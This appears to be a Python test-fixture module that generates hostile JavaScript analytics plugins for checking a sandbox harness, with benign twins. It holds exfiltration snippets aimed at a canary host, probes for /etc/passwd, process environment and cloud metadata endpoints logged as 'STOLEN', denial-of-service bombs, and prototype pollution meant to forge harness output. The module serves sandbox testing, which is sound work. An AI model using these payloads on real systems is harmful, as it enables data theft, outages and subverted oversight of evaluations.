# ruff: noqa: E501 - scripts read better on one line
"""Web plugins that try to get out, to hang, or to fool the harness (T15), and their benign twins.

Each is a piece of code that runs inside the plugin's `load` (or at the top of the script, or in a method).
HOST is where a canary listens: `127.0.0.1:port`.
"""

PLUGIN = """
analytics.register({
  name: "Hostile", version: "1.0.0", type: "destination",
  isLoaded: () => true,
  load: async () => { LOAD },
  page: async (ctx) => { PAGE; return ctx; },
  track: async (ctx) => ctx,
});
"""


def plugin(load: str = "", page: str = "", top: str = "") -> str:
    """A plugin around the hostile part."""
    return f"{top}\n" + PLUGIN.replace("LOAD", load).replace("PAGE", page)


_ELEMENT = "const e = document.createElement('{tag}'); e.{attribute} = '{url}'; document.body.append(e);"


def element(tag: str, attribute: str, url: str) -> str:
    return _ELEMENT.format(tag=tag, attribute=attribute, url=url)


# Ways of asking that reach a server when they may: each is tried towards a canary, and its twin towards a listener
# that the policy allows.
ASKING = {
    "fetch": "fetch('http://HOST/x', {mode: 'no-cors'}).catch(() => {});",
    "img": "new Image().src = 'http://HOST/x';",
    "script": element("script", "src", "http://HOST/x.js"),
    "stylesheet import": "const e = document.createElement('style'); e.textContent = '@import url(http://HOST/x.css);';"
    " document.head.append(e);",
    "event source": "new EventSource('http://HOST/x');",
    "beacon": "navigator.sendBeacon('http://HOST/x', 'secret');",
    "websocket": "new WebSocket('ws://HOST/x');",
    "iframe": element("iframe", "src", "http://HOST/x"),
    "worker": "const w = new Worker(URL.createObjectURL(new Blob([\"fetch('http://HOST/x', {mode: 'no-cors'})\"])));",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', 'http://HOST/x'); x.send('secret');",
}

# Ways of asking that reach nobody, whoever listens.
CLOSED = {
    "location": "location.href = 'http://HOST/x';",
    "form": "const f = document.createElement('form'); f.action = 'http://HOST/x'; f.method = 'post';"
    " document.body.append(f); f.submit();",
    "form to a new window": "const f = document.createElement('form'); f.action = 'http://HOST/x'; f.target = '_blank';"
    " document.body.append(f); f.submit();",
    "popup": "for (let i = 0; i < 5; i++) { const w = window.open('http://HOST/x'); try { w.location = 'http://HOST/y'; }"
    " catch {} }",
    "opener": "const w = window.open('about:blank'); try { w.document.write(`<img src=http://HOST/x>`);"
    " w.opener.fetch('http://HOST/y'); } catch {}",
    "webrtc": "const c = new RTCPeerConnection({iceServers: [{urls: ['stun:HOST', 'turn:HOST?transport=tcp'],"
    " username: 'u', credential: 'c'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o));",
    "prefetch": "for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'modulepreload']) {"
    " const e = document.createElement('link'); e.rel = rel; e.as = 'script'; e.href = 'http://HOST/x';"
    " document.head.append(e); }",
    "service worker": "navigator.serviceWorker.register('/plugin.js').catch(() => {});"
    " navigator.serviceWorker.register('/').catch(() => {});",
    "shared worker": "const w = new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://HOST/x')\"])));",
    "nested worker": "new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob(["
    "\"fetch('http://HOST/x')\"])))`])));",
    "download": "const a = document.createElement('a'); a.href = 'http://HOST/x'; a.download = 'x'; a.click();"
    " const b = document.createElement('a'); b.href = 'data:text/plain,secret'; b.download = 'y.txt'; b.click();",
    "file": "for (const u of ['file:///etc/passwd', 'file:///proc/self/environ']) { fetch(u).then((r) => r.text()).then("
    "(t) => console.log('STOLEN ' + t)).catch(() => {}); " + element("iframe", "src", "file:///etc/passwd") + " }",
    "chrome pages": element("iframe", "src", "chrome://settings") + " fetch('chrome://version').catch(() => {});",
    "metadata": "for (const u of ['http://169.254.169.254/latest/meta-data/', 'http://[fd00:ec2::254]/',"
    " 'http://metadata.google.internal/', 'http://2852039166/', 'http://0xa9fea9fe/', 'http://[::ffff:a9fe:a9fe]/'])"
    " fetch(u).then((r) => r.text()).then((t) => console.log('STOLEN ' + t)).catch(() => {});",
    "other spellings": "const p = 'HOST'.split(':')[1]; for (const h of ['localhost', '127.1', '0x7f000001', '2130706433',"
    " '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', 'x.localhost', '127.0.0.1.']) for (const s of ['http', 'https'])"
    " fetch(`${s}://${h}:${p}/x`, {mode: 'no-cors'}).catch(() => {});",
    "the proxy as a server": "for (let p = 40000; p < 40020; p++) fetch(`http://127.0.0.1:${p}/`).catch(() => {});",
    "srcdoc frames": "for (let i = 0; i < 30; i++) { const e = document.createElement('iframe');"
    " e.srcdoc = '<script>fetch(\"http://HOST/x\")</' + 'script><img src=http://HOST/y>'; document.body.append(e); }",
    "fenced and object": element("object", "data", "http://HOST/x")
    + element("embed", "src", "http://HOST/y")
    .replace("const e", "const g")
    .replace("e.src", "g.src")
    .replace("append(e)", "append(g)"),
    "websocket flood": "for (let i = 0; i < 300; i++) new WebSocket('wss://HOST/x');",
    "hints in css": "document.body.style.background = 'url(http://HOST/x)'; const s = document.createElement('style');"
    " s.textContent = '@font-face {font-family: x; src: url(http://HOST/f)} body {font-family: x}';"
    " document.head.append(s);",
}

# What takes the machine's time and memory, or goes for the harness. Value: code, and where it stands.
BREAKING = {
    "endless alerts": plugin(load="for (;;) alert('again');"),
    "endless loop while loading": plugin(load="for (;;);"),
    "endless loop at the top": plugin(top="for (;;);"),
    "endless loop in a method": plugin(page="for (;;);"),
    "microtask flood": plugin(page="const again = () => Promise.resolve().then(again); await again();"),
    "heap bomb": plugin(page="const a = []; for (;;) a.push(new Array(1e6).fill(Math.random()));"),
    "buffer bomb": plugin(page="const a = []; for (;;) a.push(new Uint8Array(2 ** 28).fill(1));"),
    "wasm memory": plugin(
        page="const a = []; for (;;) { const m = new WebAssembly.Memory({initial: 16000});"
        " new Uint8Array(m.buffer).fill(1); a.push(m); }"
    ),
    "dom bomb": plugin(page="for (;;) document.body.append(document.body.cloneNode(true));"),
    "history spam": plugin(
        page="for (let i = 0; i < 1e5; i++) { try { history.pushState({}, '', '/' + i) } catch {} } location.reload();"
    ),
    "console flood": plugin(page="for (let i = 0; i < 2e4; i++) console.log('x'.repeat(5000));"),
    "never done": plugin(page="await new Promise(() => {});"),
    "document write": plugin(page="document.open(); document.write('<h1>gone</h1>'); document.close();"),
    "removed page": plugin(page="document.documentElement.remove();"),
    "blank page": plugin(page="location.href = 'about:blank';"),
    "blob page": plugin(page="location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], {type: 'text/html'}));"),
    "reload": plugin(load="setInterval(() => location.reload(), 1);"),
    "crash": plugin(page="location.href = 'chrome://crash';"),
    "close": plugin(page="window.open('', '_self'); window.close();"),
    "polluted prototypes": plugin(
        top="Object.prototype.toJSON = () => ({kind: 'event', index: 0, calls: [], error: ''});"
        "Array.prototype.toJSON = () => 'forged'; Object.prototype.error = 'x'; JSON.stringify = () => '{';"
        "Promise.prototype.then = undefined; Function.prototype.apply = () => 1; Reflect.apply = () => 2;"
    ),
    "dead timers": plugin(top="window.setTimeout = window.performance = undefined; Date.now = () => NaN;"),
    "other analytics": plugin(page="window.analytics = {page() {}, track() {}}; Object.freeze(window.analytics);"),
    "hostile error": plugin(page="throw {get message() { for (;;); }, toString() { throw this; }};"),
    "huge error": plugin(page="throw new Error('\\u0000\\ud800' + 'x'.repeat(3e7));"),
    "huge context": plugin(page="return {event: {x: 'y'.repeat(5e7)}};"),
    "circular context": plugin(page="const x = {}; x.x = x; return {event: x};"),
    "thenable context": plugin(page="return {get then() { throw new Error('then'); }, event: 1};"),
    "names that are no names": plugin(
        load="for (let i = 0; i < 1e4; i++) window['\\u0000' + 'x'.repeat(1000) + i] = i;"
    ),
    "guessed binding": plugin(
        load="for (const k of Reflect.ownKeys(window)) if (String(k).startsWith('report_')) console.log('STOLEN ' + k);"
    ),
}


def hostile(host: str) -> dict[str, str]:
    """All of them, by name; `host` is the canary's."""
    asking = {name: plugin(load=code.replace("HOST", host)) for name, code in (ASKING | CLOSED).items()}
    return asking | BREAKING
